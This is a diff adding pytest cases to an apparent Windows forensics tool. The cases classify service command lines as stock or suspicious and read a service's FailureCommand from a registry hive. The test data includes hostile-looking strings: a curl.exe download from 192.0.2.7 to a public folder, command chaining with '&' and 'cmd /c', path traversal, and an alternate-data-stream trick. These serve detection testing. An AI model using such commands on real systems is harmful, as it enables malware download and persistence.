@@ -120,6 +120,40 @@ def test_no_interpreter_is_stock() -> None:
         assert not looks_stock(f"C:\\Windows\\System32\\{name} x")
 
 
+@pytest.mark.parametrize(
+    ("command", "stock"),
+    [
+        ("%SystemRoot%\\system32\\svchost.exe -k netsvcs", True),
+        ("\\SystemRoot\\System32\\drivers\\a.sys", True),
+        ("system32\\drivers\\a.sys", True),
+        ("\\??\\C:\\Windows\\System32\\drivers\\a.sys", True),
+        ("C:/Windows/System32/spoolsv.exe", True),
+        ("C:\\Windows\\System32\\..\\..\\Users\\Public\\evil.exe", False),
+        ("C:\\Windows\\System32\\..\\System32\\spoolsv.exe", False),
+        ("C:\\Windows\\System32\\spoolsv.exe & C:\\evil.exe", False),
+        ("C:\\Windows\\System32\\drivers\\hosts:evil.exe", False),
+        ("C:\\Windows\\System32\\curl.exe http://192.0.2.7/x -o C:\\Users\\Public\\a.exe", False),
+        ("C:\\Windows\\System32\\cmd /c C:\\a.exe", False),
+        ("cmd.exe/c a.exe", False),
+        ("C:\\Windows\\System32\\spool\\drivers\\color\\evil.exe", False),
+    ],
+)
+def test_what_looks_like_windows_own(command: str, stock: bool) -> None:
+    assert looks_stock(command) is stock
+
+
+def test_a_program_after_a_failure_is_told() -> None:
+    def told(command: str) -> Tree:
+        return hive({"Spooler": service("%windir%\\System32\\spoolsv.exe", ("FailureCommand", 1, utf16(command)))})
+
+    (fact,), problems = run(ARTIFACT, told("C:\\Users\\Public\\evil.exe -x"), SYSTEM)
+    assert problems == []
+    assert fact.fields["failure_command"] == "C:\\Users\\Public\\evil.exe -x"
+    assert not fact.context
+    (fact,), _ = run(ARTIFACT, told("customScript.cmd"), SYSTEM)
+    assert fact.context
+
+
 @pytest.mark.samples
 def test_a_real_system(samples: Path) -> None:
     facts, problems = run(ARTIFACT, Hive.open((samples / "hives" / "SYSTEM_B").read_bytes()), SYSTEM)
